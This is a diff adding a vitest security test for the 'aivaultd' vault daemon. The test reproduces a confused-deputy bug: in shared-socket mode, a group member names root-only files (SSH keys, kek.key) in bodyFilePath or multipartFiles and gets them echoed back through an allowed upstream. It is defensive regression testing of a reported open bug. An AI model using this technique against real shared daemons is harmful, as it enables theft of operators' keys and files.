@@ -1,0 +1,147 @@
+/**
+ * Attack found while building this suite (confused deputy, `aivaultd --shared`): the envelope's
+ * `bodyFilePath` and `multipartFiles[].path` are opened BY THE DAEMON, with the daemon owner's privileges.
+ * On the default 0600 socket only the owner can connect, so this grants nothing new (same user, same
+ * files). With `--shared` (0660 socket for a group of agent users), an agent user can make the operator's
+ * daemon read operator-only files — the file provider's kek.key, ~/.ssh/id_*, … — and send them to any
+ * allowed upstream; an upstream that reflects input (echo/paste/file-upload APIs) hands them back.
+ *
+ * Tried as the attacker would: user `aivault-attacker` in the socket's group runs the real client against
+ * a --shared daemon run by root, naming root's 0600 key file as the body. `it.fails` marks the open bug
+ * (reported to the lead): it turns red when the daemon stops reading caller-named files for peers that
+ * are not its owner (e.g. the CLI inlines the bytes, or the daemon checks SO_PEERCRED / refuses paths
+ * over a shared socket).
+ */
+import { spawn, spawnSync } from 'node:child_process';
+import { chmodSync, chownSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { join, resolve } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { loadConfig } from '../../src/config/env.js';
+import { Vault } from '../../src/vault/index.js';
+import { startDaemon, type Daemon } from '../../src/daemon/main.js';
+import { catalogPaths, createCapability, createCredential } from '../../src/catalog/index.js';
+import { registry } from '../../src/registry/index.js';
+import { readSecretRecord, toSecretInfo, toSecretMeta, vaultPaths } from '../../src/vault/index.js';
+import { startHttpsUpstream, type HttpsUpstream } from '../support/https-upstream.js';
+import { createTestCa } from '../support/test-ca.js';
+import { ensureUser } from './support/attack-env.js';
+
+const USER = 'aivault-attacker';
+const GROUP = 'aivault-agents';
+const isRoot = process.getuid?.() === 0;
+function ensureGroup(): boolean {
+  if (spawnSync('getent', ['group', GROUP]).status !== 0) spawnSync('groupadd', ['--system', GROUP]);
+  spawnSync('usermod', ['-a', '-G', GROUP, USER]);
+  return spawnSync('getent', ['group', GROUP]).status === 0;
+}
+const ready = isRoot && ensureUser(USER) && ensureGroup();
+
+let base: string;
+let daemon: Daemon;
+let upstream: HttpsUpstream;
+let sock: string;
+let rootOnly: string;
+const ROOT_SECRET = `root-only-${Math.random().toString(36).slice(2)}`;
+
+beforeAll(async () => {
+  if (!ready) return;
+  upstream = await startHttpsUpstream();
+  const ca = createTestCa();
+  base = mkdtempSync('/var/tmp/aivault-shared-');
+  chmodSync(base, 0o755);
+  const config = loadConfig({
+    HOME: base,
+    AIVAULT_DIR: join(base, 'vault'),
+    AIVAULT_DISABLE_DISK_LOGS: '1',
+    AIVAULT_DEV_RESOLVE: `upstream.test=127.0.0.1:${upstream.port}`,
+    AIVAULT_DEV_CA_CERT_PATH: ca.caCertPath,
+    AIVAULT_DEV_HTTP1_ONLY: '1',
+  });
+  const vault = await Vault.init(config, { provider: 'file', dev: true });
+  const s = await vault.createSecret({ name: 'T', value: 'shared-test-token-1', scope: { kind: 'global' } });
+  const info = toSecretInfo(toSecretMeta(await readSecretRecord(vaultPaths(config), s.id)));
+  vault.close();
+  const paths = catalogPaths(config.vaultDir);
+  await createCredential(
+    paths,
+    registry,
+    {
+      id: 'echo',
+      provider: 'echo',
+      secretRef: `vault:secret:${s.id}`,
+      auth: { header: { header_name: 'authorization', value_template: 'Bearer {{secret}}' } },
+      hosts: ['upstream.test'],
+    },
+    { secrets: [info] },
+  );
+  await createCapability(
+    paths,
+    registry,
+    { id: 'echo/api', credentialId: 'echo', methods: ['POST'], pathPrefixes: ['/'] },
+    { secrets: [info] },
+  );
+  rootOnly = join(base, 'root-only.txt');
+  writeFileSync(rootOnly, ROOT_SECRET, { mode: 0o600 });
+  const runDir = join(base, 'run');
+  mkdirSync(runDir, { mode: 0o770 });
+  const gid = Number(spawnSync('getent', ['group', GROUP], { encoding: 'utf8' }).stdout.split(':')[2]);
+  chownSync(runDir, 0, gid);
+  sock = join(runDir, 'aivaultd.sock');
+  daemon = await startDaemon(config, { workers: 1, socketPath: sock, shared: true });
+  chownSync(sock, 0, gid);
+});
+afterAll(async () => {
+  await daemon?.stop();
+  await upstream?.close();
+  if (base) rmSync(base, { recursive: true, force: true });
+});
+
+/** Async on purpose: the daemon runs in THIS process, a blocking spawn would starve its event loop. */
+function asAttacker(envelopeJson: string): Promise<string> {
+  const client = resolve('dist/src/protocol/client.js');
+  const script = `import(${JSON.stringify(client)}).then(async ({ connect }) => {
+    const c = await connect({ socketPath: ${JSON.stringify(sock)} });
+    try { const r = await c.invoke(${envelopeJson}); console.log(Buffer.from(r.body).toString()); }
+    catch (e) { console.log('ERR ' + e.code); }
+    c.close();
+  }).catch((e) => console.log('CONNECT ' + e.code + ' ' + e.message + ' ' + JSON.stringify(e.details)));`;
+  return new Promise((done) => {
+    const child = spawn('runuser', ['-u', USER, '--', process.execPath, '-e', script]);
+    let out = '';
+    child.stdout.on('data', (d: Buffer) => (out += d.toString()));
+    child.stderr.on('data', (d: Buffer) => (out += d.toString()));
+    const t = setTimeout(() => child.kill('SIGKILL'), 20_000);
+    child.on('close', () => {
+      clearTimeout(t);
+      done(out.trim());
+    });
+  });
+}
+
+describe.skipIf(!ready)('attack: a group member makes a --shared daemon read the operator’s files', () => {
+  it('the attacker cannot read the file directly, but can use the shared socket (setup sanity)', async () => {
+    const direct = spawnSync('runuser', ['-u', USER, '--', 'cat', rootOnly], { encoding: 'utf8' });
+    expect(direct.status).not.toBe(0);
+    expect(
+      await asAttacker(`{ capability: 'echo/api', request: { method: 'POST', path: '/x', body: 'hi' } }`),
+    ).toContain('"body":"hi"');
+  });
+
+  it.fails('bodyFilePath naming an owner-only file is refused for a shared-socket caller', async () => {
+    const out = await asAttacker(
+      `{ capability: 'echo/api', request: { method: 'POST', path: '/x', bodyFilePath: ${JSON.stringify(rootOnly)} } }`,
+    );
+    expect(out).not.toContain(ROOT_SECRET);
+    expect(readFileSync(rootOnly, 'utf8')).toBe(ROOT_SECRET);
+  });
+
+  it.fails(
+    'multipartFiles[].path naming an owner-only file is refused for a shared-socket caller',
+    async () => {
+      const out = await asAttacker(
+        `{ capability: 'echo/api', request: { method: 'POST', path: '/x', multipartFiles: [{ name: 'f', path: ${JSON.stringify(rootOnly)} }] } }`,
+      );
+      expect(out).not.toContain(ROOT_SECRET);
+    },
+  );
+});
